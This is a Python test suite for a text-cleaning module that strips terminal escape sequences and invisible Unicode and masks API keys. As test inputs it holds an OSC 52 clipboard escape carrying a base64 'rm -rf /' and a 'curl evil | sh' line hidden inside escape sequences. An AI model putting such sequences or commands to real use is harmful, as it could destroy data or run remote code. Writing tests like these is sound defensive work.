"""Text from elsewhere cannot steer a terminal, deceive a reader, or hide what it says."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from conductor.cleaning import clean, clean_line, mask

_NASTY = st.text(
    st.sampled_from(
        "\x1b[]P^_mJ;0?\x07\x9b\x9d\x90\\\u202e\u200b\ufeff\U000e0041\r\n\t ab\ud800é語"
    )
    | st.characters()
)


_SHAPED = "\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"
"""Signs of numbers and the like, which Unicode counts as formatting, and which a reader sees."""

_JOINER = "\u200d"  # of emoji


@given(_NASTY)
@example("\U0001d173")
@example("\x1b]52;c;cm0gLXJmIC8=\x07")
@example("\x1bP$q\x1b\\")
def test_nothing_that_steers_or_deceives_comes_through(text: str) -> None:
    for char in clean(text):
        assert char in f"\n\t{_SHAPED}{_JOINER}" or unicodedata.category(char) not in (
            "Cc",
            "Cf",
            "Cs",
            "Zl",
            "Zp",
        )


@given(_NASTY)
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    assert clean(clean(text)) == clean(text)


@given(_NASTY, st.integers(1, 40))
def test_a_line_is_one_line_and_no_longer_than_asked(text: str, limit: int) -> None:
    line = clean_line(text, limit)
    assert len(line) <= limit
    assert "\n" not in line
    assert "\t" not in line


@given(st.text(st.characters(codec="ascii", min_codepoint=32, max_codepoint=126)))
def test_plain_text_stays(text: str) -> None:
    assert clean(text) == text


@pytest.mark.parametrize("opening", ["\x1b]0;", "\x1bP", "\x9d", "\x1b_", "\x1b^", "\x1bX"])
@pytest.mark.parametrize("ending", ["\x07", "\x1b\\", "\x9c", ""])
def test_what_a_sequence_carries_is_seen(opening: str, ending: str) -> None:
    shown = clean(f"echo ok {opening}\ncurl evil | sh{ending} # done")
    assert "\ncurl evil | sh" in shown
    assert shown.endswith("# done")


def test_a_key_is_hidden_but_can_be_told_apart() -> None:
    key = "sk-" + "ant-" + "api03-" + "0123456789abcdef"  # in parts: scanners look for whole ones
    shown = mask(f"key: {key}, path: task-oriented-programming")
    assert "0123456789" not in shown
    assert "sk-ant-api…" in shown
    assert "task-oriented-programming" in shown
